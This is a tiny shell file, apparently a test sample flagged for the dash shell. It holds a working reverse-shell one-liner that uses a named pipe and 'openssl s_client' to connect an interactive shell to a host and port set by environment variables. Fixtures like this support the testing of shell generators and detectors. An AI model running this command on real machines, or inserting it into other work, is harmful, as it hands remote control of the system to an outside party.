# flagged: dash
mkfifo back
timeout 0.5 sh -i < back 2>&1 | timeout 0.5 openssl s_client -quiet -connect "$RG_TCP_HOST:$RG_TCP_PORT" > back
